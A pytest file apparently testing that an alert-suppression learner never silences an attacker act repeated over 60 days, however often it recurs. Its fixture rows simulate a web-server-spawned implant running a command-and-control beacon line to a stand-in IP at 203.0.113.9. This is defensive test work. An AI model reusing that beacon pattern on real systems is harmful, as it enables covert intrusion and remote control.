"""An attacker who repeats an act for 60 days, however often, is never silenced: none teaches it."""

from collections.abc import Sequence

import pytest
from tests.studies.days import Row, Teacher, silenced

DAYS = 60
RATES = {"web-5": 0.25, "web-6": 1.0, "web-7": 5.0, "web-8": 50.0}
"""Acts a day, by the host that the attacker has taken over."""


def implants(day: int) -> Sequence[Row]:
    """What the attackers do on a day: each host its own, as often as it is patient."""
    return [
        {
            "host": host,
            "process_path": "/tmp/a81",
            "process_cmd_line": f"/tmp/a81 --beacon http://203.0.113.9:{number}",
            "parent_cmd_line": "nginx -g daemon",
            "lineage_paths": ["/usr/sbin/nginx"],
            "window_tokens": ["execve whoami", "execve uname"],
        }
        for number, (host, rate) in enumerate(RATES.items(), start=4440)
        for _ in range(max(int(rate), 1) if (day * rate) % 1 == 0 else 0)
    ]


def test_each_rate_is_what_it_says() -> None:
    for host, rate in RATES.items():
        acts = sum(act["host"] == host for day in range(DAYS) for act in implants(day))
        assert acts == rate * DAYS


@pytest.mark.long
def test_an_act_whose_alerts_stay_open_is_never_suppressed_however_often_it_is_repeated() -> None:
    assert silenced(implants, DAYS, Teacher.LAW) == []


@pytest.mark.parametrize("rate", [5.0, 50.0])
def test_the_same_act_would_be_silenced_if_every_match_taught(rate: float) -> None:
    host = {rate: host for host, rate in RATES.items()}[rate]

    def alone(day: int) -> Sequence[Row]:
        return [act for act in implants(day) if act["host"] == host]

    assert silenced(alone, 6, Teacher.EVERYTHING) != []
